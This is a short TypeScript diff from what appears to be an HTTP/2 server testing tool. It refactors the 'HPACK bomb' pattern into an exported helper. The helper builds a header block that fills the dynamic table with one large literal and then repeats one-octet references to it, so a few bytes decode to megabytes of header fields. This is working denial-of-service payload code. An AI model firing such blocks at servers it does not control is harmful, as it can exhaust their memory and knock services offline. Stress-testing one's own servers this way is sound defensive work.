@@ -13,6 +13,20 @@ const ENTRY_OVERHEAD_BYTES = 32;
 /** Below this table size an entry is too small to amplify anything worth measuring. */
 const MIN_TABLE_BYTES = 256;
 
+/**
+ * A request head, one literal that fills a dynamic table of `tableBytes` (RFC 7541 §4.1 sizes), and
+ * one-octet references to it up to `blockBytes`; with how many octets the block decodes to.
+ */
+export function bombBlock(head: Buffer, tableBytes: number, blockBytes: number): { block: Buffer; decodedBytes: number } {
+  const value = 'b'.repeat(tableBytes - ENTRY_OVERHEAD_BYTES - BOMB_NAME.length);
+  const literal = literalWithIndexing(BOMB_NAME, value);
+  const refs = Math.max(1, blockBytes - head.length - literal.length);
+  return {
+    block: Buffer.concat([head, literal, Buffer.alloc(refs, indexedField(FIRST_DYNAMIC_INDEX)[0]!)]),
+    decodedBytes: (refs + 1) * (BOMB_NAME.length + value.length),
+  };
+}
+
 export default definePattern({
   id: 'hpack-bomb',
   title: 'HPACK bomb',
@@ -33,11 +47,8 @@ export default definePattern({
         e.unitsPlanned = 0;
         return e.finish();
       }
-      const value = 'b'.repeat(table - ENTRY_OVERHEAD_BYTES - BOMB_NAME.length);
-      const head = Buffer.concat([requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small }), literalWithIndexing(BOMB_NAME, value)]);
-      const refs = Math.max(1, p.blockBytes - head.length);
-      const block = Buffer.concat([head, Buffer.alloc(refs, indexedField(FIRST_DYNAMIC_INDEX)[0]!)]);
-      e.notes.push(`each block: ${block.length.toLocaleString('en-US')} B that decode to ${(((refs + 1) * (BOMB_NAME.length + value.length)) / 2 ** 20).toFixed(0)} MiB of header fields`);
+      const { block, decodedBytes } = bombBlock(requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small }), table, p.blockBytes);
+      e.notes.push(`each block: ${block.length.toLocaleString('en-US')} B that decode to ${(decodedBytes / 2 ** 20).toFixed(0)} MiB of header fields`);
       const frameBytes = peer.settings.maxFrameSize;
       const frames = (id: number): Buffer[] => {
         const out: Buffer[] = [];
